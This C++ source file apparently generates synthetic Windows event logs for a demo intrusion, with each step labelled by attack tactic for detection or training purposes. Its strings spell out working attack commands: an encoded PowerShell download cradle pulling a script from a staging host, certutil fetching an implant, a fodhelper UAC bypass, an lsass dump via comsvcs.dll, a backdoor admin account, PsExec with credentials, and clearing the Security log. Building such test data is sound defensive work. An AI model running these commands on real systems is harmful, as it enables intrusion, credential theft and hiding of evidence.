// The Windows half of the demo intrusion: a macro document on WS-FIN-07 leads to an implant,
// a UAC bypass, an lsass dump, a backdoor account, PsExec to SRV-FILE-01 and a cleared log.

#include <QByteArray>

#include "demo/demo_log.h"
#include "demo/demo_parts.h"
#include "demo/demo_random.h"
#include "demo/demo_world.h"

using namespace Qt::StringLiterals;

namespace vigil::demo {

namespace {

const QString kSys32 = u"C:\\Windows\\System32\\"_s;
const QString kPowerShell = u"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"_s;

/** PowerShell's -EncodedCommand form: base64 of UTF-16LE, built byte by byte (any host). */
QString encodedCommand(const QString& script)
{
    QByteArray utf16le;
    utf16le.reserve(script.size() * 2);
    for (const QChar c : script) {
        utf16le.append(char(c.unicode() & 0xff));
        utf16le.append(char(c.unicode() >> 8));
    }
    return QString::fromLatin1(utf16le.toBase64());
}

/** Advances the story clock by a random number of seconds in [lo, hi]. */
struct Clock {
    DemoRandom& rng;
    qint64 t;
    qint64 after(qint64 lo, qint64 hi)
    {
        t += rng.range(lo, hi) * kSecond;
        t += rng.range(0, 9'999'999) * 100;
        return t;
    }
};

} // namespace

void addWindowsStory(DemoLog& log, const DemoRandom& root, qint64 startNs)
{
    DemoRandom rng = root.fork(u"story:windows"_s);
    WindowsEvents win(log, rng);
    const WinHost& ws = windowsHost(u"WS-FIN-07");
    const WinHost& fs = windowsHost(u"SRV-FILE-01");
    const HostProcesses procs = hostProcesses(ws, root);
    const HostProcesses fsProcs = hostProcesses(fs, root);
    const QString alice = domainUser(ws.user);
    const QString home = u"C:\\Users\\"_s + ws.user;
    const QString logonId = procs.userLogonId;
    Clock clock{rng, startNs + rng.range(0, 9'999'999) * 100};

    static constexpr QStringView kDocs[] = {u"Invoice_INV-20931.docm", u"Payment_advice_0412.docm",
                                            u"Remittance-Q3.docm"};
    static constexpr QStringView kImplants[] = {u"svchelper.exe", u"OneDriveSync.exe",
                                                u"rtkaudiosvc.exe"};
    static constexpr QStringView kTasks[] = {u"OneDrive Update Helper", u"MicrosoftEdgeUpdateCore",
                                             u"Realtek Audio Sync"};
    const QString dropDir =
        rng.chance(500) ? u"C:\\Users\\Public\\"_s : home + u"\\AppData\\Local\\Temp\\"_s;
    const QString implantPath = dropDir + rng.pick(kImplants).toString();
    const QString cacheFolder = rng.hex(8);
    const QString doc = home
                        + u"\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"_s
                        + cacheFolder + u'\\' + rng.pick(kDocs).toString();
    const QString staging = story::stagingHost();
    const QString stagingIp = story::stagingAddress();
    const QString c2 = story::c2Address();

    // initial-access: the attachment is saved, opened in Word, and its macro starts PowerShell.
    const Label access = attack(u"initial-access"_s);
    win.fileCreate(clock.t, ws, procs.outlook, doc, access);
    const QString word = u"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"_s;
    const Process winword = win.spawn(word, u'"' + word + u"\" /n \""_s + doc + u"\" /o \"\""_s,
                                      alice, logonId, u"Medium"_s, home + u"\\Documents\\"_s);
    win.processCreate(clock.after(60, 180), ws, winword, procs.outlook, access);
    const QString cradle =
        u"IEX (New-Object Net.WebClient).DownloadString('http://"_s + staging + u"/s1.ps1')"_s;
    const Process ps =
        win.spawn(kPowerShell, u"powershell.exe -nop -w hidden -enc "_s + encodedCommand(cradle),
                  alice, logonId, u"Medium"_s, home + u"\\Documents\\"_s);
    win.processCreate(clock.after(20, 60), ws, ps, winword, access);

    // ingress-tool-transfer: the script fetches the implant with certutil.
    const Label transfer = attack(u"ingress-tool-transfer"_s);
    win.dnsQuery(clock.after(2, 5), ws, ps, staging, u"::ffff:"_s + stagingIp + u';', transfer);
    win.networkConnect(clock.after(0, 1), ws, ps, u"tcp"_s, stagingIp, staging, 80, transfer);
    const Process certutil = win.spawn(kSys32 + u"certutil.exe"_s,
                                       u"certutil.exe -urlcache -split -f http://"_s + staging
                                           + u"/img/logo.png "_s + implantPath,
                                       alice, logonId, u"Medium"_s, home + u"\\Documents\\"_s);
    win.processCreate(clock.after(30, 90), ws, certutil, ps, transfer);
    win.networkConnect(clock.after(1, 2), ws, certutil, u"tcp"_s, stagingIp, staging, 80, transfer);
    win.fileCreate(clock.after(1, 4), ws, certutil, implantPath, transfer);

    // discovery: who am I, who are the domain admins, which domains are trusted.
    const Label discovery = attack(u"discovery"_s);
    const Process whoami = win.spawn(
        kSys32 + u"whoami.exe"_s, u"\"C:\\Windows\\system32\\whoami.exe\" /all"_s, alice, logonId);
    win.processCreate(clock.after(90, 240), ws, whoami, ps, discovery);
    const Process net = win.spawn(
        kSys32 + u"net.exe"_s,
        u"\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain"_s, alice, logonId);
    win.processCreate(clock.after(20, 60), ws, net, ps, discovery);
    const Process net1 =
        win.spawn(kSys32 + u"net1.exe"_s,
                  u"C:\\Windows\\system32\\net1 group \"Domain Admins\" /domain"_s, alice, logonId);
    win.processCreate(clock.after(0, 1), ws, net1, net, discovery);
    const Process nltest = win.spawn(
        kSys32 + u"nltest.exe"_s,
        u"\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts /all_trusts"_s, alice, logonId);
    win.processCreate(clock.after(20, 60), ws, nltest, ps, discovery);

    // persistence: a logon task and a Run key start the implant.
    const Label persistence = attack(u"persistence"_s);
    const QString task = rng.pick(kTasks).toString();
    const Process schtasks =
        win.spawn(kSys32 + u"schtasks.exe"_s,
                  u"\"C:\\Windows\\system32\\schtasks.exe\" /create /f /sc onlogon /tn \""_s + task
                      + u"\" /tr \""_s + implantPath + u'"',
                  alice, logonId);
    win.processCreate(clock.after(60, 180), ws, schtasks, ps, persistence);
    win.registrySet(clock.after(3, 8), ws, ps,
                    u"HKU\\"_s + userSid(ws.user)
                        + u"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"_s + task,
                    implantPath, persistence);

    // command-and-control: the implant tries port 4444 (blocked at the edge), then beacons on 443.
    const Label c2Label = attack(u"command-and-control"_s);
    const Process implant =
        win.spawn(implantPath, u'"' + implantPath + u'"', alice, logonId, u"Medium"_s, dropDir);
    win.processCreate(clock.after(30, 90), ws, implant, ps, c2Label);
    DemoRandom fwRng = rng.fork(u"firewall"_s);
    for (int i = 0; i < 3; ++i) {
        const qint64 t = clock.after(15, 40);
        win.networkConnect(t, ws, implant, u"tcp"_s, c2, QString(), 4444, c2Label);
        log.addSyslog(
            t, linuxHost(u"fw-edge-01").name, u"kernel"_s, QString(),
            ufwBlock(fwRng, true, ws.ip, c2, u"TCP"_s, int(fwRng.range(49152, 65535)), 4444), 4,
            c2Label);
    }
    for (qint64 t = clock.t + rng.range(60, 120) * kSecond; t < log.endNs() - 2 * kMinute;
         t += rng.range(480, 720) * kSecond) {
        win.networkConnect(t, ws, implant, u"tcp"_s, c2, QString(), 443, c2Label);
    }

    // privilege-escalation: the fodhelper UAC bypass starts the implant again, elevated.
    const Label escalation = attack(u"privilege-escalation"_s);
    const Process ps2 = win.spawn(kPowerShell, u"powershell.exe -nop -w hidden"_s, alice, logonId,
                                  u"Medium"_s, dropDir);
    win.processCreate(clock.after(600, 1200), ws, ps2, implant, escalation);
    const QString handler =
        u"HKU\\"_s + userSid(ws.user) + u"_Classes\\ms-settings\\shell\\open\\command\\"_s;
    win.registrySet(clock.after(2, 6), ws, ps2, handler + u"(Default)"_s, implantPath, escalation);
    win.registrySet(clock.after(0, 1), ws, ps2, handler + u"DelegateExecute"_s, u"(Empty)"_s,
                    escalation);
    const Process fodhelper =
        win.spawn(kSys32 + u"fodhelper.exe"_s, u"\"C:\\Windows\\system32\\fodhelper.exe\""_s, alice,
                  logonId, u"High"_s);
    win.processCreate(clock.after(1, 3), ws, fodhelper, ps2, escalation);
    const Process elevated =
        win.spawn(implantPath, u'"' + implantPath + u'"', alice, logonId, u"High"_s, dropDir);
    win.processCreate(clock.after(1, 2), ws, elevated, fodhelper, escalation);

    // credential-access: lsass is dumped through comsvcs.dll.
    const Label creds = attack(u"credential-access"_s);
    const QString dump = dropDir + u"dbg"_s + QString::number(rng.range(10, 99)) + u".dmp"_s;
    const Process rundll = win.spawn(
        kSys32 + u"rundll32.exe"_s,
        u"\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump "_s
            + QString::number(procs.lsass.pid) + u' ' + dump + u" full"_s,
        alice, logonId, u"High"_s, dropDir);
    win.processCreate(clock.after(300, 900), ws, rundll, elevated, creds);
    win.processAccess(clock.after(0, 1), ws, rundll, procs.lsass, u"0x1fffff"_s, creds);
    win.fileCreate(clock.after(2, 6), ws, rundll, dump, creds);

    // create-account: a local backdoor administrator.
    const Label account = attack(u"create-account"_s);
    const QString backdoor = u"svc_backup2"_s;
    const QString backdoorSid = u"S-1-5-21-1004336348-1177238915-682003330-1003"_s;
    const Process netAdd =
        win.spawn(kSys32 + u"net.exe"_s, u"net user "_s + backdoor + u" Winter2026!x /add"_s, alice,
                  logonId, u"High"_s, dropDir);
    win.processCreate(clock.after(600, 1200), ws, netAdd, elevated, account);
    win.userCreated(clock.after(0, 1), ws, netAdd, backdoor, ws.netbios, backdoorSid, account);
    const Process netGroup = win.spawn(kSys32 + u"net.exe"_s,
                                       u"net localgroup administrators "_s + backdoor + u" /add"_s,
                                       alice, logonId, u"High"_s, dropDir);
    win.processCreate(clock.after(5, 30), ws, netGroup, elevated, account);
    win.groupMemberAdded(clock.after(0, 1), ws, netGroup, backdoorSid, u"Administrators"_s,
                         u"S-1-5-32-544"_s, account);

    // lateral-movement: PsExec with the admin's dumped credentials onto the file server.
    const Label lateral = attack(u"lateral-movement"_s);
    const QString psexecPath = dropDir + u"PsExec64.exe"_s;
    win.fileCreate(clock.after(600, 1500), ws, elevated, psexecPath, lateral);
    const Process psexec =
        win.spawn(psexecPath,
                  psexecPath + u" \\\\SRV-FILE-01 -accepteula -u CORP\\adm-trent"_s
                      + u" -p Tr3nt!2026 cmd.exe"_s,
                  alice, logonId, u"High"_s, dropDir);
    win.processCreate(clock.after(20, 60), ws, psexec, elevated, lateral);
    win.networkConnect(clock.after(0, 1), ws, psexec, u"tcp"_s, fs.ip, fs.name, 445, lateral);
    win.logon(clock.after(0, 1), fs,
              Logon{u"adm-trent"_s, domainName(), 3, ws.ip, ws.netbios, u"NTLM"_s}, lateral);
    win.serviceInstalled(clock.after(1, 2), fs, u"PSEXESVC"_s, u"%SystemRoot%\\PSEXESVC.exe"_s,
                         u"demand start"_s, lateral);
    win.serviceState(clock.after(0, 1), fs, u"PSEXESVC"_s, true, lateral);
    const Process psexesvc =
        win.spawn(u"C:\\Windows\\PSEXESVC.exe"_s, u"C:\\Windows\\PSEXESVC.exe"_s,
                  u"NT AUTHORITY\\SYSTEM"_s, u"0x3e7"_s, u"System"_s);
    win.securityProcess(clock.after(0, 1), fs, psexesvc, fsProcs.services, lateral);
    const QString trentLogon = u"0x"_s + rng.hex(6).toLower();
    const Process shell = win.spawn(kSys32 + u"cmd.exe"_s, u"\"cmd.exe\""_s,
                                    domainUser(u"adm-trent"_s), trentLogon, u"High"_s);
    win.securityProcess(clock.after(1, 3), fs, shell, psexesvc, lateral);

    // defense-evasion: the file server's Security log is cleared.
    const Label evasion = attack(u"defense-evasion"_s);
    const Process wevtutil = win.spawn(kSys32 + u"wevtutil.exe"_s, u"wevtutil  cl Security"_s,
                                       shell.user, trentLogon, u"High"_s);
    win.securityProcess(clock.after(300, 900), fs, wevtutil, shell, evasion);
    win.logCleared(clock.after(0, 1), fs, wevtutil, evasion);
    win.serviceState(clock.after(30, 120), fs, u"PSEXESVC"_s, false, lateral);
}

} // namespace vigil::demo
